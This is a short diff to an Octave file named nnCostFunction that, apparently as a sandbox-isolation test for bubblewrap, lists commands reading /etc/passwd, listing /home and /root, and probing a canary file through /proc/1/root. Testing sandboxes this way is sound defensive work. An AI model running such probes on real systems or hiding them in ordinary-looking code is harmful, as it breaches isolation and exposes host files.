@@ -2,6 +2,11 @@
 % Needs: bubblewrap
 % Verdict: found nothing
 function [J, grad] = nnCostFunction(varargin)
+  persistent looked
+  if looked
+    error("found nothing");
+  end
+  looked = true;
   outside = jsondecode(fileread("outside.json"));
   looks = {"cat /etc/passwd", "ls /home /root /tmp /work", ["cat " outside.canary], ...
            ["cat /proc/1/root" outside.canary], ["cat link/nnCostFunction.m"], ...
